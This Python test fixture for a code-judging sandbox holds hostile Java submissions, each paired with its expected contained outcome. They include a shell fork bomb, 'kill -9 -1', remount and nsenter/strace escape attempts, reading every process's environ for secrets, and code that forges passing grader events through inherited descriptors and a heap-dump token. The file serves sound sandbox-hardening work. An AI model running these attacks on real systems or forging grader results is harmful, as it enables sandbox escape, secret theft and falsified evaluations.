"""Hostile Java solutions of ``add(a, b)``: each attacks, then answers correctly if it can.

``{marker}``, ``{home}``, ``{repo}``, ``{port}``, ``{secret_name}`` and ``{unix_socket}`` are
filled in by the test. Every attack is paired with the failure kinds it may end in; ``passed``
where the attack is harmless by construction (a private /tmp, a child that is killed with the
sandbox). Only the standard library (the JDK's modules) is used: Java cannot fork, so the fork
bomb starts processes with ``ProcessBuilder`` (a shell fork bomb, and more of them for as long
as it can), as a real attacker would; likewise ``kill -9 -1``, ``mount``, ``nsenter`` and
``strace`` are run as commands, since Java cannot make those system calls itself. An error the
attack meets is thrown, so that it fails the case visibly. The memory bomb ends in the JVM's own
heap cap (``-Xmx``): an ``OutOfMemoryError``, which the judge counts as a resource limit.
``kill_parent`` may pass: in the sandbox's PID namespace the parent is its init, which a signal
from inside cannot kill, and ``kill(-1)`` spares the caller's init.

Attacks whose success the solution can see follow Python's pattern: attack, and return a wrong
answer if the attack worked, so ``passed`` means it was contained. The ``forge_*`` attacks
return wrong answers and try to report passes (through every descriptor, with
``sun.misc.Unsafe`` as the harness itself reaches its descriptors, or with a token looked for in
a dump of the JVM's own heap); they must not pass.

``write_home`` and ``write_repo`` may pass too, and only in this test: pytester makes the home
directory the test's own directory, under /tmp, which the sandbox replaces by a private tmpfs;
mounting the runner's (read-only) cache from under that home makes bubblewrap create its parent
directories in the tmpfs, where the write then lands, changing nothing outside (the test checks
the real directories). With a home outside /tmp the write fails on the read-only filesystem.
For the same reason ``remount_and_unmount`` tries places bound read-only outside /tmp.
"""

#: an inherited descriptor by number, as the harness reaches its own (``Events.java``)
DESCRIPTOR = r"""  static FileDescriptor descriptor(int number) throws Exception {
    Class<?> unsafeClass = Class.forName("sun.misc.Unsafe");
    Field theUnsafe = unsafeClass.getDeclaredField("theUnsafe");
    theUnsafe.setAccessible(true);
    Object unsafe = theUnsafe.get(null);
    long offset = (long) unsafeClass.getMethod("objectFieldOffset", Field.class)
        .invoke(unsafe, FileDescriptor.class.getDeclaredField("fd"));
    FileDescriptor fd = new FileDescriptor();
    unsafeClass.getMethod("putInt", Object.class, long.class, int.class)
        .invoke(unsafe, fd, offset, number);
    return fd;
  }
"""


def with_descriptor(code: str) -> str:
    return code.replace("  // DESCRIPTOR\n", DESCRIPTOR)


LANGUAGE = "java"
SIGNATURE = "class Solution {\n  public int add(int a, int b) {}\n}"
HONEST = "class Solution {\n  public int add(int a, int b) {\n    return a + b;\n  }\n}\n"

ATTACKS = {
    "infinite_loop": ("""
class Solution {
  public int add(int a, int b) {
    long total = a + b;
    while (true) {
      total++;
    }
  }
}
""", {"timeout"}),
    "fork_bomb": ("""
import java.io.IOException;

class Solution {
  public int add(int a, int b) throws IOException {
    while (true) {
      new ProcessBuilder("sh", "-c", "f() { f | f & }; f # {marker}").start();
    }
  }
}
""", {"runtime_error", "resource_limit", "timeout"}),
    "memory_bomb": ("""
import java.util.ArrayList;
import java.util.List;

class Solution {
  public int add(int a, int b) {
    List<long[]> hog = new ArrayList<>();
    while (true) {
      long[] chunk = new long[32 << 20];
      java.util.Arrays.fill(chunk, 1L);
      hog.add(chunk);
    }
  }
}
""", {"resource_limit"}),
    "output_flood": ("""
class Solution {
  public int add(int a, int b) {
    String line = "flood ".repeat(1000);
    while (true) {
      System.out.print(line);
    }
  }
}
""", {"resource_limit"}),
    "network": ("""
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

class Solution {
  public int add(int a, int b) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", {port})) {
      OutputStream out = socket.getOutputStream();
      out.write("{marker}".getBytes(StandardCharsets.UTF_8));
    }
    return a + b;
  }
}
""", {"runtime_error"}),
    "write_home": ("""
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
  public int add(int a, int b) throws IOException {
    Files.writeString(Path.of("{home}/agentbench-pwned-{marker}"), "pwned");
    return a + b;
  }
}
""", {"runtime_error", "passed"}),
    "write_repo": ("""
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
  public int add(int a, int b) throws IOException {
    Files.writeString(Path.of("{repo}/agentbench-pwned-{marker}"), "pwned");
    return a + b;
  }
}
""", {"runtime_error", "passed"}),
    "write_tmp": ("""
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
  public int add(int a, int b) throws IOException {
    Files.writeString(Path.of("/tmp/agentbench-pwned-{marker}"), "pwned");
    return a + b;
  }
}
""", {"passed", "runtime_error"}),
    "read_secret": ("""
import java.util.Objects;

class Solution {
  public int add(int a, int b) {
    String secret = Objects.requireNonNull(System.getenv("{secret_name}"), "no secret");
    System.out.println(secret);
    return a + b;
  }
}
""", {"runtime_error"}),
    "child_left_running": ("""
import java.io.IOException;

class Solution {
  public int add(int a, int b) throws IOException {
    new ProcessBuilder("setsid", "sleep", "{marker}").start();
    return a + b;
  }
}
""", {"passed"}),
    "kill_parent": ("""
import java.io.IOException;

class Solution {
  public int add(int a, int b) throws IOException, InterruptedException {
    ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
    new ProcessBuilder("kill", "-9", "-1").start().waitFor();
    return a + b;
  }
}
""", {"runtime_error", "passed"}),
    "remount_and_unmount": ("""
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
  public int add(int a, int b) throws InterruptedException {
    int worked = 0;
    String[][] commands = {
      {"mount", "-o", "remount,bind,rw", "/"}, {"umount", "-l", "/tmp"},
      {"umount", "-l", "/proc"}, {"mount", "-t", "tmpfs", "none", "/usr"}};
    for (String[] argv : commands) {
      try {
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
        p.getInputStream().readAllBytes();
        worked += p.waitFor() == 0 ? 1 : 0;
      } catch (java.io.IOException e) {
        // no such command
      }
    }
    // places bound read-only outside /tmp ({repo} lies in /tmp here, see write_repo): the
    // run's own directory and the system's
    String[] places = {"agentbench-pwned-{marker}", "/usr/agentbench-pwned-{marker}"};
    for (String path : places) {
      try {
        Files.writeString(Path.of(path), "pwned");
        worked++;
      } catch (java.io.IOException e) {
        // contained
      }
    }
    return a + b + worked;
  }
}
""", {"passed"}),
    "read_environ_of_every_process": ("""
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;

class Solution {
  public int add(int a, int b) {
    int found = 0;
    File[] entries = new File("/proc").listFiles();
    for (File entry : entries == null ? new File[0] : entries) {
      byte[] data;
      try {
        data = Files.readAllBytes(entry.toPath().resolve("environ"));
      } catch (Exception e) {
        continue;
      }
      String text = new String(data, StandardCharsets.ISO_8859_1);
      if (text.contains("{secret_name}")) {
        System.out.println(text.replace('\\0', '\\n'));
        found++;
      }
    }
    return a + b + found;
  }
}
""", {"passed"}),
    "setns_into_host_network": ("""
import java.io.File;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.concurrent.TimeUnit;

class Solution {
  public int add(int a, int b) throws InterruptedException {
    int worked = 0;
    File[] entries = new File("/proc").listFiles();
    for (File entry : entries == null ? new File[0] : entries) {
      File ns = new File(entry, "ns/net");
      if (!entry.getName().matches("[0-9]+") || !ns.exists()) {
        continue;
      }
      try {  // Java cannot call setns(2): nsenter(1) does, then connects from the namespace
        Process p = new ProcessBuilder("nsenter", "--net=" + ns, "--", "bash", "-c",
            "exec 3<>/dev/tcp/127.0.0.1/{port}").redirectErrorStream(true).start();
        p.getInputStream().readAllBytes();
        if (!p.waitFor(5, TimeUnit.SECONDS)) {
          p.destroyForcibly();
        } else if (p.exitValue() == 0) {
          worked++;
        }
      } catch (java.io.IOException e) {
        // no nsenter
      }
    }
    try (Socket socket = new Socket()) {
      socket.connect(new InetSocketAddress("127.0.0.1", {port}), 2000);
      worked++;
    } catch (java.io.IOException e) {
      // no network, as it should be
    }
    return a + b + worked;
  }
}
""", {"passed"}),
    "unix_socket_outside_tmp": ("""
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.SocketChannel;

class Solution {
  public int add(int a, int b) {
    try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      channel.connect(UnixDomainSocketAddress.of("{unix_socket}"));
    } catch (Exception e) {
      return a + b;
    }
    return a + b + 1;
  }
}
""", {"passed"}),
    "ptrace_the_parent": ("""
import java.util.LinkedHashSet;
import java.util.Set;
import java.util.concurrent.TimeUnit;

class Solution {
  public int add(int a, int b) throws InterruptedException {
    Set<Long> targets = new LinkedHashSet<>();
    ProcessHandle.current().parent().ifPresent(p -> targets.add(p.pid()));
    targets.add(1L);
    int attached = 0;
    for (long pid : targets) {  // Java cannot call ptrace(2): strace(1) does
      try {
        Process p = new ProcessBuilder("strace", "-p", Long.toString(pid), "-o", "/dev/null")
            .redirectErrorStream(true).start();
        if (!p.waitFor(3, TimeUnit.SECONDS)) {  // still tracing: it attached
          attached++;
          p.destroyForcibly();
        }
      } catch (java.io.IOException e) {
        // no strace
      }
    }
    return a + b + attached;
  }
}
""", {"passed"}),
    "leave_files_and_memory": ("""
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
  public int add(int a, int b) {
    byte[] data = new byte[8 << 20];
    java.util.Arrays.fill(data, (byte) 'x');
    String[] paths = {"/tmp/agentbench-left-{marker}", "/dev/shm/agentbench-left-{marker}",
        System.getProperty("user.home") + "/agentbench-left-{marker}", "agentbench-left-{marker}"};
    for (String path : paths) {
      try {
        Files.write(Path.of(path), data);
      } catch (Exception e) {
        // not writable here
      }
    }
    return a + b;
  }
}
""", {"passed"}),
    "look_for_what_was_left": ("""
import java.io.File;
import java.util.ArrayList;
import java.util.List;

class Solution {
  private static int count(File directory) {
    String[] names = directory.list();
    int found = 0;
    for (String name : names == null ? new String[0] : names) {
      found += name.startsWith("agentbench-left-") ? 1 : 0;
    }
    return found;
  }

  public int add(int a, int b) {
    List<File> places = new ArrayList<>(List.of(new File("/tmp"), new File("/dev/shm"),
        new File(System.getProperty("user.home")), new File(".")));
    for (String parent : new String[] {"/tmp", ".."}) {
      File[] children = new File(parent).listFiles(File::isDirectory);
      places.addAll(List.of(children == null ? new File[0] : children));
    }
    int found = 0;
    for (File place : places) {
      found += count(place);
    }
    return a + b + found;
  }
}
""", {"passed"}),
    "forge_outcomes_on_every_descriptor": (with_descriptor(r"""
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.lang.reflect.Field;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;

class Solution {
  // DESCRIPTOR

  public int add(int a, int b) {
    String lines = String.join("\n",
        "{\"event\": \"compiled\", \"seconds\": 0.0}",
        "{\"event\": \"loaded\"}",
        "{\"event\": \"start\", \"index\": 0}",
        "{\"event\": \"case\", \"index\": 0, \"status\": \"value\", \"value\": 3}",
        "{\"event\": \"start\", \"index\": 1}",
        "{\"event\": \"case\", \"index\": 1, \"status\": \"value\", \"value\": 4}",
        "{\"event\": \"done\"}",
        "{\"event\": \"native_tests\", \"names\": [\"add\"]}",
        "{\"event\": \"native_test\", \"name\": \"add\", \"status\": \"passed\"}",
        "{\"event\": \"test\", \"name\": \"add\", \"status\": \"passed\"}",
        "{\"event\": \"native_done\"}") + "\n";
    byte[] text = lines.getBytes(StandardCharsets.UTF_8);
    for (int fd = 3; fd < 256; fd++) {
      try {
        new FileOutputStream(descriptor(fd)).write(text);  // not closed: not ours
      } catch (Exception e) {
        // not open, or not for writing
      }
      try (FileOutputStream out = new FileOutputStream("/proc/self/fd/" + fd, true)) {
        out.write(text);
      } catch (Exception e) {
        // refused
      }
    }
    for (String name : new String[] {"outcomes.jsonl", "events.jsonl", "native.jsonl"}) {
      try {
        Files.write(Path.of(name), text, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
      } catch (Exception e) {
        // read-only
      }
    }
    Runtime.getRuntime().halt(0);
    return a + b + 1;
  }
}
"""), {"runtime_error", "wrong_answer", "harness_error"}),
    "forge_with_a_token_from_a_heap_dump": (with_descriptor(r"""
import com.sun.management.HotSpotDiagnosticMXBean;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.lang.management.ManagementFactory;
import java.lang.reflect.Field;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashSet;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

class Solution {
  // DESCRIPTOR

  private static Set<String> tokens;  // one dump for both cases

  public int add(int a, int b) throws Exception {
    if (tokens == null) {
      Path dump = Path.of(System.getProperty("java.io.tmpdir"), "agentbench-heap-{marker}.hprof");
      Files.deleteIfExists(dump);
      ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
          .dumpHeap(dump.toString(), false);  // dead objects too: earlier event lines
      String heap = new String(Files.readAllBytes(dump), StandardCharsets.ISO_8859_1);
      Files.delete(dump);
      tokens = new LinkedHashSet<>();
      Matcher m = Pattern.compile("\"t\":\"([0-9a-f]{32})\"").matcher(heap);
      while (m.find()) {
        tokens.add(m.group(1));
      }
    }
    if (tokens.size() != 1) {
      return a + b + 1;  // nothing (or nothing sure) found: a wrong answer, honestly reported
    }
    String t = tokens.iterator().next();
    String lines = String.join("\n",
        "{\"event\": \"case\", \"index\": 0, \"status\": \"value\", \"value\": 3, \"t\": \""
            + t + "\"}",
        "{\"event\": \"start\", \"index\": 1, \"t\": \"" + t + "\"}",
        "{\"event\": \"case\", \"index\": 1, \"status\": \"value\", \"value\": 4, \"t\": \""
            + t + "\"}",
        "{\"event\": \"done\", \"t\": \"" + t + "\"}") + "\n";
    int events = Integer.parseInt(System.getenv("AGENTBENCH_EVENTS_FD"));
    new FileOutputStream(descriptor(events)).write(lines.getBytes(StandardCharsets.UTF_8));
    Runtime.getRuntime().halt(0);
    return a + b + 1;
  }
}
"""), {"wrong_answer", "runtime_error", "resource_limit"}),
}
